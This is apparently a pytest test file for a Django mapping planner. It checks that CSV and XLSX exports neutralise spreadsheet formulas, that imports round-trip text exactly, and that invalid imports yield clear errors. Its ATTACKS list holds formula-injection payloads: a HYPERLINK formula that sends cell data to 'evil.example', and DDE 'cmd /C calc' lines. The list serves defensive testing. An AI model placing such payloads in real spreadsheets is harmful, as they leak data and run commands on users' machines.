"""Exports never carry live formulas, and import gives back exactly what was exported; exports
and imports that used to end in a server error end in a clear message (page and API)."""

import csv
import io
from types import SimpleNamespace

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from planner.api.tokens import create_token
from planner.filesafety import FORMULA_START, neutralise, unneutralise
from planner.mapping.spreadsheet import (
    HEADERS,
    MAX_LENGTHS,
    export_csv,
    export_xlsx,
    match_columns,
    read_sheet,
    sheet_title,
    validate_rows,
)
from planner.models import FieldMapping
from planner.runs import service as validation
from tests.conftest import client_for
from tests.factories import ConnectionFactory, FieldMappingFactory, SystemFactory, run_now
from tests.factories import csv_connection as build

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRICKY = [*ATTACKS, "=> legacy field", "'=x", "''=x", "'", "'hello", "-", "a=b", " =x"]
BASE = dict(
    source_field="Status",
    source_type="string",
    target_field="status",
    target_type="string",
    max_length=None,
    required=False,
    null_rule="",
    null_default="",
    rule="trim",
    direction="one_way",
    frequency="real_time",
    every_minutes=None,
    source_of_truth="source",
    conflict_rule="",
    notes="",
    tolerance="",
)


def mapping(**values) -> SimpleNamespace:
    return SimpleNamespace(**{**BASE, **values})


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: formulas stay formulas
    return [list(row) for row in book.active.iter_rows()]


def round_trip(data: bytes, name: str) -> list[dict]:
    sheet = read_sheet(data, name)
    return validate_rows(sheet, match_columns(sheet.headers))


# ---------------------------------------------------------------- the helper


@pytest.mark.parametrize("text", TRICKY)
def test_neutralise_is_undone_exactly_and_never_leaves_a_formula(text):
    safe = neutralise(text)
    assert safe[:1] not in FORMULA_START
    assert unneutralise(safe) == text


def test_each_dangerous_character_gets_one_quote():
    for char in "=+-@\t\r":
        assert neutralise(f"{char}x") == f"'{char}x"
    assert neutralise("'=x") == "''=x" and unneutralise("''=x") == "'=x"
    assert neutralise("plain =x") == "plain =x" and neutralise("'quoted") == "'quoted"
    assert unneutralise("'quoted") == "'quoted"  # a quote before harmless text is the user's


# ---------------------------------------------------------------- mapping exports


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_export_neutralises_every_dangerous_leading_character(attack):
    rows = csv_cells(export_csv([mapping(target_field=attack, null_default=attack, notes=attack)]))
    record = dict(zip(HEADERS, rows[1], strict=True))
    for header in ("Target field", "Default value", "Notes"):
        assert record[header] == "'" + attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_export_stores_text_never_a_formula(attack):
    cells = xlsx_cells(export_xlsx([mapping(target_field=attack, notes=attack)]))
    for cell in cells[1]:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    notes = cells[1][HEADERS.index("Notes")]
    assert notes.data_type == "s"
    assert notes.value == "'" + attack.replace("\r", "_x000D_")


@pytest.mark.parametrize("export, name", [(export_csv, "m.csv"), (export_xlsx, "m.xlsx")])
@pytest.mark.parametrize("text", TRICKY)
def test_export_then_import_gives_back_exactly_the_text(export, name, text):
    row = mapping(target_field=text.strip() or "t", null_default=text, notes=text)
    [back] = round_trip(export([row]), name)
    assert (back["target_field"], back["null_default"], back["notes"]) == (
        text.strip() or "t",
        text,
        text,
    )


leading = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", " ", "\n", '"'])
any_text = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"))


@hypothesis_settings(max_examples=150, deadline=None)
@given(start=leading, rest=any_text)
def test_round_trip_is_exact_for_any_text_in_both_formats(start, rest):
    text = start + rest
    row = mapping(notes=text, null_default=text[:200])
    for export, name in ((export_csv, "m.csv"), (export_xlsx, "m.xlsx")):
        [back] = round_trip(export([row]), name)
        assert (back["notes"], back["null_default"]) == (text, text[:200]), name


def test_a_user_typed_formula_in_an_xlsx_comes_back_as_its_text():
    book = openpyxl.Workbook()
    book.active.append(["Source field", "Target field", "Notes"])
    book.active.append(["a", "b", "=> legacy field"])
    book.active["C2"].data_type = "s"
    out = io.BytesIO()
    book.save(out)
    [row] = round_trip(out.getvalue(), "m.xlsx")
    assert row["notes"] == "=> legacy field"


# ---------------------------------------------------------------- the differences CSV


@pytest.fixture
def published(monkeypatch):
    sent: list[int] = []
    monkeypatch.setattr(validation, "dispatch", lambda run: sent.append(run.pk))
    return sent


def test_the_differences_csv_neutralises_values_from_either_system(
    db, settings, tmp_path, published
):
    settings.MEDIA_ROOT = tmp_path / "media"
    attacks = [a for a in ATTACKS if not a[:1].isspace()]
    source = "id,status,email\n" + "".join(
        f'{i},active,"{a.replace(chr(34), chr(34) * 2)}"\n' for i, a in enumerate(attacks, 1)
    )
    target = "id,active,email\n" + "".join(
        f'{i},1,"{a.replace(chr(34), chr(34) * 2)} (target)"\n' for i, a in enumerate(attacks, 1)
    )
    connection = build(source, target)
    run = run_now(connection, published)
    response = client_for(connection.project.owner).get(
        reverse("planner:run_differences", args=[connection.project_id, run.pk])
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["status", "id", "field", "source_value", "target_value"]
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_START, row
    mismatches = {r[1]: (unneutralise(r[3]), unneutralise(r[4])) for r in rows[1:]}
    for i, attack in enumerate(attacks, 1):
        assert mismatches[str(i)] == (attack.lower(), f"{attack} (target)")


# ---------------------------------------------------------------- 500s that are messages now


def api_headers(user) -> dict:
    _, raw = create_token(user, "ci")
    return {"HTTP_AUTHORIZATION": f"Bearer {raw}"}


@pytest.fixture
def slashed(project):
    """A connection between systems whose names no sheet title may hold."""
    source = SystemFactory(project=project, name="CRM / Sales [EU]: *all*?")
    target = SystemFactory(project=project, name="Billing\\Invoices")
    connection = ConnectionFactory(project=project, source=source, target=target)
    FieldMappingFactory(project=project, connection=connection, notes="=1+1")
    return connection


def test_sheet_titles_are_made_valid():
    assert (
        sheet_title("CRM / Sales [EU]: *all*? to Billing\\Invoices")
        == "CRM - Sales -EU- -all- to Billi"
    )
    assert sheet_title("'quoted'") == "quoted" and sheet_title("/:?") == "-"
    assert sheet_title("") == "Mapping" and sheet_title("History") == "Mapping"


def test_xlsx_export_of_systems_named_with_slashes_downloads(project, slashed, owner_client):
    url = reverse("planner:mapping_export", args=[project.pk, slashed.pk, "xlsx"])
    response = owner_client.get(url)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["CRM - Sales -EU- -all- to Billi"]
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and disposition.endswith('.xlsx"')
    assert "/" not in disposition and "\\" not in disposition


def test_api_xlsx_export_of_systems_named_with_slashes_downloads(project, slashed):
    client = client_for(project.owner)
    url = f"/api/projects/{project.pk}/connections/{slashed.pk}/mapping?fmt=xlsx"
    response = client.get(url, **api_headers(project.owner))
    assert response.status_code == 200
    assert openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames == [
        "CRM - Sales -EU- -all- to Billi"
    ]


def test_a_text_too_long_for_an_xlsx_cell_is_a_message(project, owner_client):
    connection = ConnectionFactory(project=project)
    FieldMappingFactory(project=project, connection=connection, notes="n" * 40_000)
    url = reverse("planner:mapping_export", args=[project.pk, connection.pk, "xlsx"])
    response = owner_client.get(url, follow=True)
    assert response.redirect_chain[-1][1] == 302
    assert (
        "The mapping cannot be exported as XLSX: row 2, column &#x27;Notes&#x27;: 40,000 "
        "characters; an XLSX cell holds at most 32,767. Export as CSV instead."
    ) in response.content.decode()
    api = client_for(project.owner).get(
        f"/api/projects/{project.pk}/connections/{connection.pk}/mapping?fmt=xlsx",
        **api_headers(project.owner),
    )
    assert api.status_code == 400
    assert api.json()["detail"].startswith("fmt: the mapping cannot be exported as xlsx: row 2")
    csv_export = owner_client.get(url.replace("xlsx", "csv"))
    assert csv_export.status_code == 200 and ("n" * 40_000).encode() in csv_export.content


def test_max_lengths_are_the_models():
    for name, length in MAX_LENGTHS.items():
        assert FieldMapping._meta.get_field(name).max_length == length
    free_text = {
        f.name
        for f in FieldMapping._meta.concrete_fields
        if f.get_internal_type() == "CharField" and not f.choices
    }
    assert free_text == set(MAX_LENGTHS)


LONG = "x" * 500
BAD_ROWS = (
    "Source field,Target field,Default value,Target max length,Notes\n"
    f"{LONG},ok,,,\n"
    f"a,{LONG},,,\n"
    f"b,c,{LONG},,\n"
    "d,e,,99999999999,\n"
    "f,g,,,nul \x00 here\n"
)
EXPECTED = [
    "row 2, column 'Source field': 500 characters; the limit is 200.",
    "row 3, column 'Target field': 500 characters; the limit is 200.",
    "row 4, column 'Default value': 500 characters; the limit is 200.",
    "row 5, column 'Target max length': '99999999999' is larger than 2,147,483,647.",
    "row 6, column 'Notes': The cell holds a NUL character (0x00), which cannot be stored.",
]


def test_web_import_of_values_the_database_cannot_hold_names_row_and_column(project, owner_client):
    connection = ConnectionFactory(project=project)
    url = reverse("planner:mapping_import", args=[project.pk, connection.pk])
    preview = owner_client.post(url, {"file": SimpleUploadedFile("m.csv", BAD_ROWS.encode())})
    assert preview.status_code == 200
    form = {"step": "confirm", "encoded": preview.context["encoded"], "filename": "m.csv"}
    form |= {f"col_{i}": (f or "") for i, f in preview.context["columns"].items()}
    response = owner_client.post(url, {**form, "mode": "append"})
    assert response.status_code == 200
    assert [str(p) for p in response.context["problems"]] == EXPECTED
    assert not FieldMapping.objects.exists()


def test_api_import_of_values_the_database_cannot_hold_is_a_400(project):
    connection = ConnectionFactory(project=project)
    response = client_for(project.owner).post(
        f"/api/projects/{project.pk}/connections/{connection.pk}/mapping",
        {"file": SimpleUploadedFile("m.csv", BAD_ROWS.encode())},
        **api_headers(project.owner),
    )
    assert response.status_code == 400
    assert response.json()["problems"] == EXPECTED
    assert not FieldMapping.objects.exists()


def test_import_limits_come_from_settings_on_the_page_and_the_api(project, owner_client, settings):
    settings.AETHON_MAPPING_IMPORT_LIMITS = {"max_rows": 3, "max_columns": 10}
    connection = ConnectionFactory(project=project)
    data = b"Source field,Target field\n" + b"a,b\nc,d\ne,f\n"
    url = reverse("planner:mapping_import", args=[project.pk, connection.pk])
    page = owner_client.post(url, {"file": SimpleUploadedFile("m.csv", data)})
    assert [str(p) for p in page.context["problems"]] == ["Row 4: the limit is 3 rows."]
    api = client_for(project.owner).post(
        f"/api/projects/{project.pk}/connections/{connection.pk}/mapping",
        {"file": SimpleUploadedFile("m.csv", data)},
        **api_headers(project.owner),
    )
    assert api.status_code == 400 and api.json()["problems"] == ["Row 4: the limit is 3 rows."]
    assert not FieldMapping.objects.exists()
